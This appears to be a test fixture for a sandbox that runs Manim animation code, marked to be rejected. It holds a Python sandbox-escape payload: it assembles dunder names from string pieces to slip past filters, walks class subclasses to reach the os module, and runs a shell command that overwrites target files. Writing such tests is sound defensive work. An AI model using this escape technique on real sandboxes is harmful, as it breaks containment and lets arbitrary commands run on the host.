# category: esc
# attack: dunder names assembled at run time: getattr(x, "__cl"+"ass__"), vars(), type.__subclasses__(object), [].__class__.__mro__[-1], builtins via getattr, then os/subprocess attacks
# expect: any
# policy: reject
from manim import *

TARGETS = HOSTILE_TARGETS


class GetattrConcat(Scene):
    def construct(self):
        d = "_" * 2
        cls = getattr((), d + "cl" + "ass" + d)
        obj = getattr(cls, d + "mro" + d)[-1]
        subs = type.__subclasses__(obj)
        os_mod = None
        for sub in subs:
            g = getattr(getattr(sub, d + "init" + d), d + "globals" + d, None)
            if isinstance(g, dict) and "os" in g and hasattr(g["os"], "system"):
                os_mod = g["os"]
                break
        if os_mod is None:
            os_mod = vars(getattr(self, d + "class" + d))  # fall back to anything reachable
        os_mod.system("; ".join(f"echo pwned > '{t}'" for t in TARGETS))
        bi = getattr(type(self.construct), d + "call" + d)
        print("callable", bi)
        self.play(FadeIn(Square()), run_time=0.3)
